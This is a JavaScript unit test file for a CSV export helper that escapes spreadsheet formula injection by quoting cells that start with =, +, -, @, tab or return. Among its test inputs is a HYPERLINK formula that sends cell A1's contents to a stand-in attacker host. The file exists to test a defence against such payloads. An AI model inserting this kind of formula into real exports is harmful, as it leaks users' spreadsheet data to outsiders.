import { csvOf, csvSafeCell } from './csv.js';

describe('csvSafeCell', () => {
  it.each([
    [
      '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
      `'=HYPERLINK("http://attacker.example/?leak="&A1,"Open")`,
    ],
    ['+1+cmd', `'+1+cmd`],
    ['-2+3', `'-2+3`],
    ['-', `'-`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\tTab first', `'\tTab first`],
    ['\rReturn first', `'\rReturn first`],
  ])('prefixes a quote to text that begins like a formula: %j', (value, escaped) => {
    expect(csvSafeCell(value)).toBe(escaped);
  });

  it.each(['-500.00', '-3', '1200.50', '0', 'Invoice INV-1', 'a=b', ''])(
    'leaves numbers, negative amounts and ordinary text as they are: %j',
    (value) => {
      expect(csvSafeCell(value)).toBe(value);
    },
  );
});

describe('csvOf', () => {
  it('escapes every cell of every row, then quotes as RFC 4180 asks', () => {
    const csv = csvOf(
      ['reason', 'amount'],
      [
        ['=1+1', '-500.00'],
        ['fine, thanks', '@x'],
      ],
    );
    expect(csv).toBe(`reason,amount\n'=1+1,-500.00\n"fine, thanks",'@x\n`);
  });
});
